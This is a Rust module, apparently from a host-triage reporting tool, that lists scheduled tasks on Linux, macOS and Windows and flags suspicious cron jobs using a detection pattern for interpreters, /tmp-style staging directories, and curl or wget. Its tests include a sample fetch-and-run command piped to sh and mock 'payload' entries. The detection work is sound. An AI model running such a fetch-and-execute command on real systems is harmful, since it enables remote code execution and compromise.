use anyhow::Result;
use log::info;

use super::{is_interpreter, listing_table};
use crate::platform::Platform;
use crate::render::html::{heading, pre_or_placeholder, Table};
use crate::reports::parsers::{parse_colon_blocks, parse_crontab, parse_ls_la};
use crate::reports::{unsupported_platform, ReportContext, ReportGenerator, ReportKind};

const STAGING_DIRS: &[&str] = &["/tmp/", "/var/tmp/", "/dev/shm/"];

/// Cron jobs, systemd timers, launchd jobs and Windows scheduled tasks
pub struct ScheduledTasksReport;

impl ReportGenerator for ScheduledTasksReport {
    fn kind(&self) -> ReportKind {
        ReportKind::ScheduledTasks
    }

    fn build_body(&self, ctx: &ReportContext<'_>) -> Result<String> {
        info!("Enumerating scheduled tasks");
        let mut body = heading(2, "Scheduled Tasks");

        match ctx.platform {
            Platform::Linux | Platform::MacOS => {
                body.push_str(&cron_sections(ctx));
                if ctx.platform == Platform::Linux {
                    body.push_str(&heading(3, "systemd Timers"));
                    body.push_str(&pre_or_placeholder(
                        &ctx.run("systemctl list-timers --all --no-pager"),
                        "No systemd timers returned.",
                    ));
                } else {
                    body.push_str(&launchd_jobs(&ctx.run("launchctl list")));
                }
            }
            Platform::Windows => body.push_str(&windows_tasks(&ctx.run("schtasks /query /fo LIST"))),
            Platform::Other => body.push_str(&unsupported_platform("Scheduled task reporting", ctx.platform)),
        }
        Ok(body)
    }
}

/// A cron command worth a second look
fn is_suspicious_job(command: &str) -> bool {
    let program = command.split_whitespace().next().unwrap_or_default();
    is_interpreter(program)
        || STAGING_DIRS.iter().any(|dir| command.contains(dir))
        || command.contains("curl ")
        || command.contains("wget ")
}

fn cron_sections(ctx: &ReportContext<'_>) -> String {
    let mut out = heading(3, "User Crontab (crontab -l)");
    let mut table = Table::new(["Schedule", "Command"]).with_empty_message("No crontab for the current user.");
    for (schedule, command) in parse_crontab(&ctx.run("crontab -l")) {
        if is_suspicious_job(&command) {
            table.add_flagged_row([schedule, command]);
        } else {
            table.add_row([schedule, command]);
        }
    }
    out.push_str(&table.render());

    out.push_str(&heading(3, "System Cron Jobs (/etc/cron.d)"));
    let entries = parse_ls_la(&ctx.run("ls -la /etc/cron.d"));
    out.push_str(&listing_table(&entries, "No entries in /etc/cron.d.").render());
    out
}

fn launchd_jobs(output: &str) -> String {
    let mut table = Table::new(["PID", "Status", "Label"]).with_empty_message("No launchd jobs returned.");
    for line in output.lines().skip_while(|l| l.starts_with("PID")) {
        let fields: Vec<&str> = line.split_whitespace().collect();
        if let [pid, status, label] = fields.as_slice() {
            table.add_row([*pid, *status, *label]);
        }
    }
    table.sort_by_column(2);
    format!("{}{}", heading(3, "launchd Jobs (launchctl list)"), table.render())
}

fn windows_tasks(output: &str) -> String {
    let mut table = Table::new(["Task Name", "Next Run Time", "Status"])
        .with_empty_message("Could not query scheduled tasks.");
    for task in parse_colon_blocks(output).iter().filter(|t| t.contains("TaskName")) {
        table.add_row([
            task.get_or_na("TaskName"),
            task.get_or_na("Next Run Time"),
            task.get_or_na("Status"),
        ]);
    }
    format!("{}{}", heading(3, "Windows Scheduled Tasks (schtasks)"), table.render())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::test_utils::mock_body;

    fn body_for(platform: Platform) -> String {
        mock_body(&ScheduledTasksReport, platform)
    }

    #[test]
    fn test_suspicious_jobs() {
        assert!(is_suspicious_job("/usr/bin/python3 /opt/agent.py"));
        assert!(is_suspicious_job("/tmp/.x/run"));
        assert!(is_suspicious_job("curl -s http://example.com/x | sh"));
        assert!(!is_suspicious_job("/usr/sbin/logrotate /etc/logrotate.conf"));
    }

    #[test]
    fn test_linux_cron_and_timers() {
        let body = body_for(Platform::Linux);
        assert!(body.contains("<tr><td>*/5 * * * *</td><td>/home/hax0r/payload.sh</td></tr>"));
        assert!(body.contains("<tr class=\"flagged\"><td>@reboot</td><td>/usr/bin/python3 /opt/agent.py</td></tr>"));
        assert!(body.contains("<td>e2scrub_all</td>"));
        assert!(body.contains("No systemd timers returned."));
    }

    #[test]
    fn test_macos_launchd() {
        let body = body_for(Platform::MacOS);
        assert!(body.contains("<td>612</td><td>0</td><td>com.example.daemon</td>"));
        assert!(!body.contains("<td>PID</td>"));
    }

    #[test]
    fn test_windows_tasks() {
        let body = body_for(Platform::Windows);
        assert!(body.contains("<td>\\Updater</td><td>7/26/2025 3:00:00 AM</td><td>Ready</td>"));
    }
}
